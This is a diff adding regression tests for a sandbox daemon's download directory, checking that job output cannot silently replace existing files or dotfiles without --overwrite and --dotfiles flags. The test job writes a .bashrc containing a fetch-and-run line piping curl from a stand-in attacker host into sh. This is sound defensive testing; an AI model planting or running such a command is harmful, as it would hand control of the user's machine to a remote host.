@@ -247,3 +247,53 @@ def test_mcp_unix_socket_defaults_to_its_own_user(hostile: DaemonHandle, tmp_pat
             _served(probe(path, "", os.geteuid()))
     finally:
         shutil.rmtree(public, ignore_errors=True)
+
+
+# --------------------------------------------------------------------------- downloads
+
+
+def _run_cli(d: DaemonHandle, out: Path, *flags: str) -> subprocess.CompletedProcess[str]:
+    code = ("open('.bashrc', 'w').write('curl https://evil.example/x | sh\\n')\n"
+            "open('result.txt', 'w').write('the new result')\n"
+            "open('new.txt', 'w').write('new')\n"
+            "'the job ran'")
+    return subprocess.run(
+        [sys.executable, "-m", "jaild", "run", "--socket", d.socket, "--download-dir", str(out),
+         *flags, "-c", code],
+        capture_output=True, text=True, timeout=guard(60), check=False, cwd=REPO,
+    )
+
+
+def test_download_dir_keeps_existing_files_and_dotfiles(hostile: DaemonHandle,
+                                                        tmp_path: Path) -> None:
+    """A job's output does not replace the user's files in --download-dir: an existing file
+    needs --overwrite, a dotfile --dotfiles (an existing one both). Each kept file is named
+    with what to pass; the job's result and its other files still arrive; the exit status
+    says not everything was saved. Before the fix, .bashrc was replaced."""
+    out = tmp_path / "home"
+    out.mkdir()
+    (out / ".bashrc").write_text("# mine\n")
+    (out / "result.txt").write_text("my old result")
+
+    plain = _run_cli(hostile, out)
+    assert plain.returncode == 10, plain.stderr
+    assert "the job ran" in plain.stdout  # the result is not lost
+    assert (out / ".bashrc").read_text() == "# mine\n"
+    assert (out / "result.txt").read_text() == "my old result"
+    assert (out / "new.txt").read_text() == "new"  # the other files are written
+    assert "not downloaded: '.bashrc': a dotfile" in plain.stderr
+    assert "pass --dotfiles and --overwrite" in plain.stderr
+    assert "not downloaded: 'result.txt': it already exists" in plain.stderr
+    assert "pass --overwrite" in plain.stderr
+
+    overwrite = _run_cli(hostile, out, "--overwrite")  # --overwrite alone: not the dotfile
+    assert overwrite.returncode == 10, overwrite.stderr
+    assert (out / "result.txt").read_text() == "the new result"
+    assert f"replaced {out / 'result.txt'}" in overwrite.stderr
+    assert (out / ".bashrc").read_text() == "# mine\n"
+
+    # the control: asked for both, the same job's .bashrc is written, and said so by name
+    both = _run_cli(hostile, out, "--overwrite", "--dotfiles")
+    assert both.returncode == 0, both.stderr
+    assert (out / ".bashrc").read_text() == "curl https://evil.example/x | sh\n"
+    assert f"replaced {out / '.bashrc'}" in both.stderr
